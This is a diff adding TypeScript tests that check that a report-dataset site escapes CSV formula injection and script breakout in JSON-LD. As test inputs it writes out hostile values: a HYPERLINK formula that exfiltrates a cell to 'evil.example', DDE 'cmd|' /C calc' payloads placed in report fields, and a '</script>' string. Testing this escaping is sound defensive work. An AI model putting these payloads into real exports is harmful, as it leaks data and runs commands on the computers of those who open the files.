@@ -7,7 +7,7 @@ import { parseReport, reportIdPattern, type Report } from "../../../src/schema/r
 import { buildDateFrom, resolveBuildDate } from "../../../src/site/datasets/build-date.ts";
 import { codebookRows } from "../../../src/site/datasets/codebook.ts";
 import { REPORT_ID_PATTERN, longColumns, wideMetadataColumns } from "../../../src/site/datasets/columns.ts";
-import { BOM, parseCsv, plainNumber, toCsv } from "../../../src/site/datasets/csv.ts";
+import { BOM, FORMULA_START, parseCsv, plainNumber, toCsv } from "../../../src/site/datasets/csv.ts";
 import { buildDownloads, type DownloadBundle } from "../../../src/site/datasets/index.ts";
 import { prefectureName, rankStatistics } from "../../../src/site/datasets/observations.ts";
 import { datasetJsonLd, jsonLdScript } from "../../../src/site/datasets/jsonld.ts";
@@ -77,6 +77,25 @@ describe("toCsv", () => {
 
   it("refuses a row whose length differs from the header", () => {
     expect(() => toCsv(["a", "b"], [["only one"]])).toThrow(/row 1 has 1 cells, the header has 2/);
+  });
+
+  it("writes a text cell a spreadsheet would evaluate with a leading apostrophe, quoted when it needs quotes", () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
+    const csv = toCsv(["a", "b", "c", "d", "e", "f"], [[hyperlink, "+86 951 1234567", "-3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]]);
+    expect(csv).toBe(
+      `${BOM}a,b,c,d,e,f\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")",'+86 951 1234567,'-3,'@SUM(A1:A2),'\t=1+1,"'\r=1+1"\r\n`,
+    );
+    expect(parseCsv(csv)[1]).toEqual([`'${hyperlink}`, "'+86 951 1234567", "'-3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1"]);
+  });
+
+  it("escapes the full-width ＝ ＋ － ＠ too, and leaves a formula character after the first alone", () => {
+    expect(toCsv(["a", "b", "c", "d", "e"], [["＝1+1", "＋1", "－", "＠x", "1=1-1+@"]])).toBe(`${BOM}a,b,c,d,e\r\n'＝1+1,'＋1,'－,'＠x,1=1-1+@\r\n`);
+  });
+
+  it("writes negative numbers as numbers: only text cells are escaped", () => {
+    expect(toCsv(["value", "raw_text"], [[-3, "-3"], [-0.5, "—"], [-2.5e-8, null]])).toBe(
+      `${BOM}value,raw_text\r\n-3,'-3\r\n-0.5,—\r\n-0.000000025,\r\n`,
+    );
   });
 
   it("writes numbers plainly: no exponent, no separators", () => {
@@ -234,6 +253,41 @@ describe("long CSV", () => {
     expect(row(long, { indicator_id: "requests_closed" }).check_status).toBe("pass");
     expect(row(long, { indicator_id: "complaints_total" }).check_status).toBe("none");
     expect(table(file(out, "reports-wide.csv")).rows[0]!.checks_failed).toBe("1");
+  });
+});
+
+describe("spreadsheet formulas in report text", () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
+  const hostile = altered(xingqing, (r) => {
+    r.title = `${HYPERLINK}2018年政府信息公开工作年度报告`;
+    r.jurisdiction.name = "+cmd|' /C calc'!A0";
+    r.publisher = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
+    Object.assign(fax, { value: -3, raw: "-3", label: "\t=1+1", note: "\r=2+2" });
+  });
+  const bundle = buildDownloads([hostile], BUILD);
+  const files = ["reports-long.csv", "reports-wide.csv", `reports/${hostile.id}.csv`, "indicators/requests_fax.csv"];
+
+  it("leaves no cell of any CSV starting with = + - @ tab or CR unless it is a number", () => {
+    for (const path of files) {
+      const [header, ...records] = parseCsv(file(bundle, path));
+      const numberColumns = new Set(header!.filter((name) => name === "value" || name === "source_line" || name === "year" || allIndicators().some((e) => e.indicator.id === name)));
+      for (const record of records) {
+        record.forEach((cell, i) => {
+          if (numberColumns.has(header![i]!) && cell !== "") expect(Number.isFinite(Number(cell)), `${path} ${header![i]} ${cell}`).toBe(true);
+          else expect(cell, `${path} ${header![i]}`).not.toMatch(FORMULA_START);
+        });
+      }
+    }
+  });
+
+  it("keeps the text readable behind the apostrophe and the negative figure a number", () => {
+    const long = row(table(file(bundle, "reports-long.csv")).rows, { indicator_id: "requests_fax" });
+    expect(long).toMatchObject({ jurisdiction: "'+cmd|' /C calc'!A0", value: "-3", raw_text: "'-3", source_label: "'\t=1+1", note: "'\r=2+2" });
+    const wide = table(file(bundle, "reports-wide.csv")).rows[0]!;
+    expect(wide).toMatchObject({ title: `'${HYPERLINK}2018年政府信息公开工作年度报告`, publisher: "'@SUM(1+1)*cmd|' /C calc'!A0", requests_fax: "-3" });
+    expect(Number(wide.requests_fax)).toBe(-3);
+    expect(row(table(file(bundle, "indicators/requests_fax.csv")).rows, { report_id: hostile.id }).value).toBe("-3");
   });
 });
 
@@ -463,7 +517,7 @@ describe("schema.org Dataset JSON-LD", () => {
   });
 
   it("cannot close its script element", () => {
-    expect(jsonLdScript({ name: "</script><b>" })).toBe('{"name":"\\u003c/script>\\u003cb>"}');
+    expect(jsonLdScript({ name: "</script><b>&\u2028" })).toBe('{"name":"\\u003c/script\\u003e\\u003cb\\u003e\\u0026\\u2028"}');
   });
 });
 
